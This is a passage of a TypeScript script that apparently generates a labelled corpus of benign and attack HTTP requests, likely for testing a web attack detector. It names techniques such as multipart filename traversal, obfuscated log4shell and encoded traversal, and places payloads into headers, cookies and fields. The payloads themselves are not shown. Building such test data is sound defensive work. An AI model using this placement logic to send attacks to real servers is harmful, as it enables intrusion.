      body: `<?xml version="1.0"?><order id="9"><item sku="B-2" title="${xmlAttr(p)}">1</item></order>`,
    });
  for (const s of MARKDOWN_SNIPPETS.slice(0, 10)) {
    const b = "----benignform42";
    add("markdown-multipart", {
      method: "POST",
      uri: "/wiki/save",
      headers: { ...baseHeaders(), "Content-Type": `multipart/form-data; boundary=${b}` },
      body: `--${b}\r\nContent-Disposition: form-data; name="content"\r\n\r\n${s}\r\n--${b}\r\nContent-Disposition: form-data; name="upload"; filename="notes (final) - v2.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--${b}--\r\n`,
    });
  }
  return out;
}

function attackRecords(): Rec[] {
  const out: Rec[] = [];
  for (const [family, techniques] of Object.entries(ATTACKS)) {
    for (const [technique, payloads] of Object.entries(techniques)) {
      payloads.forEach((payload, i) => {
        let where: Placement;
        if (technique === "multipart-filename-traversal") where = "filename";
        else if (technique === "log4shell-obfuscated") where = pick([...VALUE_PLACEMENTS, "header", "cookie"]);
        else where = pick(VALUE_PLACEMENTS);
        // encoded-traversal payloads are written as sent on the wire: a query or form carries them without a second encoding
        const placed = place(payload, where, technique === "encoded-traversal");
        out.push({ id: `gen-${family}-${technique}-${i + 1}`, family, technique: `${family}.${technique}`, label: "attack", ...placed });
      });
    }
  }
  return out;
}

function writeJsonl(file: string, recs: Rec[]): void {
  writeFileSync(path.join(here, file), recs.map((r) => JSON.stringify(r)).join("\n") + "\n");
  console.log(`${file}: ${recs.length} records`);
}

writeJsonl("attacks.jsonl", attackRecords());
writeJsonl("benign.jsonl", benignRecords());
